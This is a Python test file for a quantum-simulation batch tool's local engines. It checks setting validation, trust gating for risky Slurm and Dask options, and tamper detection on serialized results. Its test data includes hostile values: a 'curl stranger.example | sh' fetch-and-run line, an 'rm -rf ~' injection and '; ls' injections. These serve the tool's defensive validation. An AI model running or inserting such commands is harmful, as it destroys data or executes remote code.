"""Engines: what may be written, whose word it needs, and what crosses to other machines."""

from __future__ import annotations

import hashlib
from pathlib import Path

import numpy as np
import pytest
from simulating import ANSATZ, BELL, FEEDBACK, WAVE, order, settings

from qbatch.errors import CredentialsError, SourceError
from qbatch.manifest.models import Backend
from qbatch.plan.identity import backend_identity
from qbatch.providers import Surroundings, open_driver
from qbatch.providers.kit.permission import Permission, read_permission
from qbatch.providers.local import validate_settings
from qbatch.providers.local.driver import target_of
from qbatch.providers.local.engine import simulate
from qbatch.providers.local.engines.contract import Broken, Task
from qbatch.providers.local.engines.frames import (
    MAGIC,
    FrameError,
    Part,
    jobs_of,
    misfit_of,
    pack_answers,
    pack_work,
    unpack_answers,
    unpack_work,
    versions,
)
from qbatch.providers.local.engines.given_out import MOST_LOST, GivenOut, Told
from qbatch.providers.local.engines.slurm.driver import SlurmDriver
from qbatch.providers.local.settings import read_settings
from qbatch.providers.local.work import cut

#: What is written -> where it is wrong, and a part of what is said.
WRONG = [
    ({}, (), "names none; write one of processes, slurm, dask"),
    ({"slurm": {}, "dask": "tcp://a:1"}, (), "has slurm and dask"),
    ({"slrum": {}}, ("slrum",), "did you mean 'slurm'?"),
    ({"slurm": {"partitoin": "cpu"}}, ("slurm", "partitoin"), "did you mean 'partition'?"),
    ({"slurm": {"partition": "cpu; rm -rf ~"}}, ("slurm", "partition"), "is no name that Slurm"),
    ({"slurm": {"account": "-x"}}, ("slurm", "account"), "is no name that Slurm"),
    ({"slurm": {"time": "soon"}}, ("slurm", "time"), "write 2h, 90m"),
    ({"slurm": {"memory": "much"}}, ("slurm", "memory"), "write 8G"),
    ({"slurm": {"cpus": 0}}, ("slurm", "cpus"), "write 1 or more"),
    ({"slurm": {"extra": ["; ls"]}}, ("slurm", "extra", 0), "is no option of sbatch"),
    ({"dask": "scheduler"}, ("dask",), "write tcp://HOST:8786"),
    ({"processes": {"workers": 0}}, ("processes", "workers"), "write 1 or more"),
    ({"processes": {"workers": 2}}, ("processes", "workers"), "stands in limits.workers too"),
]


@pytest.mark.parametrize(("engine", "loc", "said"), WRONG)
def test_a_wrong_engine_is_told_at_its_place(engine, loc, said):
    limits = {"workers": 2} if "stands in" in said else {}
    backend = Backend(provider="local", engine=engine, limits=limits)
    ((where, told),) = validate_settings(backend, Path())
    assert where == ("engine", *loc)
    assert said in told


@pytest.mark.parametrize(
    "engine",
    [{"processes": None}, {"slurm": None}, {"slurm": {"time": "1-00:00:00", "memory": "8 GB"}}],
)
def test_an_engine_needs_no_more_than_its_name(engine):
    assert validate_settings(Backend(provider="local", engine=engine), Path()) == []


def test_no_id_depends_on_the_engine():
    plain = Backend(provider="local")
    elsewhere = Backend(provider="local", engine={"slurm": {"cpus": 4}})
    assert backend_identity(plain, Path()) == backend_identity(elsewhere, Path())


# -- whose word it needs ---------------------------------------------------------------------------

DOORS = [
    {"dask": "tcp://stranger.example:8786"},
    {"dask": "tcp://127.0.0.1:8786"},
    {"slurm": {"setup": "curl stranger.example | sh"}},
    {"slurm": {"extra": ["--wrap=rm"]}},
    {"slurm": {"python": "/tmp/python"}},
    {"slurm": {"account": "q123"}},
    {"slurm": {"qos": "night"}},
]


def opened(engine: object, permission: Permission) -> object:
    return open_driver(
        Backend(provider="local", engine=engine),
        name="far",
        folder=Path(),
        surroundings=Surroundings(permission=permission),
    )


@pytest.mark.parametrize("engine", DOORS)
def test_what_opens_a_door_needs_the_persons_word(engine):
    with pytest.raises(CredentialsError, match="say --trust, or write engines = "):
        opened(engine, Permission())
    assert opened(engine, Permission(is_trusted=True))


def test_the_persons_own_configuration_allows_it_word_for_word(tmp_path):
    file = tmp_path / "config.toml"
    file.write_text('[manifests]\nengines = ["module load python"]\n')
    allowed = read_permission({"QBATCH_CONFIG": str(file)})
    assert isinstance(opened({"slurm": {"setup": "module load python"}}, allowed), SlurmDriver)
    with pytest.raises(CredentialsError):
        opened({"slurm": {"setup": "module load python; ls"}}, allowed)
    file.write_text("[manifests]\nengines = 3\n")
    with pytest.raises(SourceError, match=r"manifests\.engines: write a list"):
        read_permission({"QBATCH_CONFIG": str(file)})


@pytest.mark.parametrize(
    ("more", "limit"),
    [
        ({"engine": {"processes": {"memory": "1K"}}}, "engine.processes.memory"),
        ({"engine": {"slurm": {"memory": "1K"}}}, "engine.slurm.memory"),
        ({"limits": {"memory_gb": 1e-6}}, "limits.memory_gb"),
    ],
)
def test_what_does_not_fit_names_the_setting_that_bounds_it(more, limit):
    backend = Backend(provider="local", **more)
    driver = open_driver(backend, name="sim", folder=Path(), surroundings=Surroundings())
    target = target_of(read_settings(backend, Path()), 1)
    said = driver.check(order(ANSATZ, 1, shots=1, a=0.1, b=0.3), target)
    assert f"; {limit} allows " in said
    assert said.endswith(f" or raise {limit}")


# -- what crosses to other machines ----------------------------------------------------------------


@pytest.fixture(scope="module")
def computed() -> tuple[str, list[Part], bytes]:
    orders = [
        *(order(ANSATZ, k, shots=400, a=0.1 * k, b=0.3) for k in range(5)),
        order(FEEDBACK, 9, shots=50, theta=1.1),
        order(WAVE, 10, theta=float("inf")),
    ]
    chunks = [*cut(orders, settings())]
    _, digest = pack_work(chunks)
    parts = [Part(jobs_of(chunk), simulate(chunk)) for chunk in chunks]
    return digest, parts, pack_answers(digest, parts)


def test_answers_are_read_as_they_were_written(computed):
    digest, parts, frame = computed
    found = unpack_answers(frame, digest)
    assert [one.jobs for one in found] == [one.jobs for one in parts]
    assert any(one.answer.errors for one in parts)
    for ours, theirs in zip(parts, found, strict=True):
        assert np.array_equal(ours.answer.outcomes, theirs.answer.outcomes)
        assert np.array_equal(ours.answer.counts, theirs.answer.counts)
        assert ours.answer.errors == theirs.answer.errors
        assert ours.answer.sizes == theirs.answer.sizes
        assert ours.answer.evolution_s == theirs.answer.evolution_s
        assert ours.answer.facts == theirs.answer.facts


def test_final_states_cross_whole():
    using = settings(options={"statevector": True})
    chunks = [*cut([order(BELL, 1)], using)]
    _, digest = pack_work(chunks)
    parts = [Part(jobs_of(chunk), simulate(chunk)) for chunk in chunks]
    ((part,), (found,)) = parts, unpack_answers(pack_answers(digest, parts), digest)
    assert np.array_equal(part.answer.statevectors[0], found.answer.statevectors[0])


def test_a_torn_or_changed_answer_is_none(computed):
    digest, _, frame = computed
    for length in (0, len(MAGIC), len(frame) // 2, len(frame) - 1):
        with pytest.raises(FrameError):
            unpack_answers(frame[:length], digest)
    for at in range(0, len(frame), max(1, len(frame) // 50)):
        changed = bytearray(frame)
        changed[at] ^= 1
        with pytest.raises(FrameError):
            unpack_answers(bytes(changed), digest)


def test_the_answer_to_other_work_is_none(computed):
    _, _, frame = computed
    with pytest.raises(FrameError, match="other work"):
        unpack_answers(frame, 64 * "0")


def sealed(head: bytes) -> bytes:
    frame = MAGIC + len(head).to_bytes(8, "little") + head
    return frame + hashlib.sha256(frame).digest()


@pytest.mark.parametrize(
    "arrays",
    [
        '[["object", [1, 1]], ["int64", [1]]]',
        '[["uint8", [9, 9]], ["int64", [9]]]',
        '[["uint8", [0, 1]], ["float64", [0]]]',
        '[["uint8", [-1, -1]], ["int64", [0]]]',
    ],
)
def test_arrays_of_other_shapes_than_the_jobs_have_are_refused(arrays):
    part = f'{{"jobs": [["a"]], "arrays": {arrays}, "sizes": [0], "errors": {{}}, '
    head = f'{{"work": "w", "parts": [{part} "evolution_s": [0.1], "facts": {{}}}}]}}'
    with pytest.raises(FrameError):
        unpack_answers(sealed(head.encode()), "w")


def test_work_that_was_changed_is_not_unpickled():
    packed, digest = pack_work([*cut([order(BELL, 1)], settings())])
    assert unpack_work(packed, digest)
    with pytest.raises(FrameError, match="digest"):
        unpack_work(packed + b"x", digest)


def test_other_versions_are_named():
    assert misfit_of(versions(), versions()) == ""
    other = {**versions(), "qiskit-aer": "0.1"}
    assert misfit_of(other, versions()).startswith("qiskit-aer is 0.1 there and ")
    assert "qbatch is missing there" in misfit_of({}, versions())


# -- chunks on their way ---------------------------------------------------------------------------


class Scripted:
    """An engine that ends each task as it is told."""

    name, capacity = "scripted", 1

    def __init__(self) -> None:
        self.tasks: list[Task] = []
        self.dropped: list[Task] = []

    async def begin(self) -> None: ...

    def put(self, task: Task, *, first: bool = False) -> None:
        self.tasks.insert(0 if first else len(self.tasks), task)

    def drop(self, task: Task) -> None:
        self.dropped.append(task)

    async def leave(self) -> None: ...

    def end(self, outcome: object) -> None:
        self.tasks.pop(0).finished(outcome)


class Heard:
    def __init__(self) -> None:
        self.computed: list[str] = []
        self.failed: dict[str, str] = {}
        self.told = Told(lambda _: None, self._computed, self._failed)

    def _computed(self, chunk, answer) -> None:
        self.computed += chunk.job_ids

    def _failed(self, chunk, error) -> None:
        self.failed |= dict.fromkeys(chunk.job_ids, error)


def given_out() -> tuple[GivenOut, Scripted, Heard, list]:
    engine, heard = Scripted(), Heard()
    (chunk,) = cut([order(ANSATZ, k, a=0.1 * k, b=0.3) for k in range(3)], settings())
    work = GivenOut(engine, 9.0, heard.told)
    work.put(chunk)
    return work, engine, heard, [simulate(chunk)]


def test_of_a_chunk_that_broke_its_worker_the_others_are_saved():
    work, engine, heard, _ = given_out()
    engine.end(Broken("it ended"))
    assert len(engine.tasks) == 3
    engine.end(simulate(engine.tasks[0].chunk))
    engine.end(Broken("it ended too"))
    engine.end(simulate(engine.tasks[0].chunk))
    assert len(heard.computed) == 2
    assert [*heard.failed.values()] == ["it ended too; before that: it ended"]
    assert not work


def test_what_was_lost_with_its_machine_is_given_out_whole_again_some_times():
    work, engine, heard, (answer,) = given_out()
    for _ in range(MOST_LOST):
        engine.end(Broken("gone", is_passing=True))
    assert len(engine.tasks[0].chunk.evolutions) == 3
    engine.end(answer)
    assert len(heard.computed) == 3
    assert not work


def test_a_job_that_is_stopped_leaves_the_others_in_the_chunk():
    work, engine, _, _ = given_out()
    (task,) = engine.tasks
    stopped = task.chunk.job_ids[0]
    work.stop(frozenset({stopped}))
    assert engine.dropped == [task]
    assert stopped not in engine.tasks[0].chunk.job_ids
    assert len(engine.tasks[0].chunk.job_ids) == 2
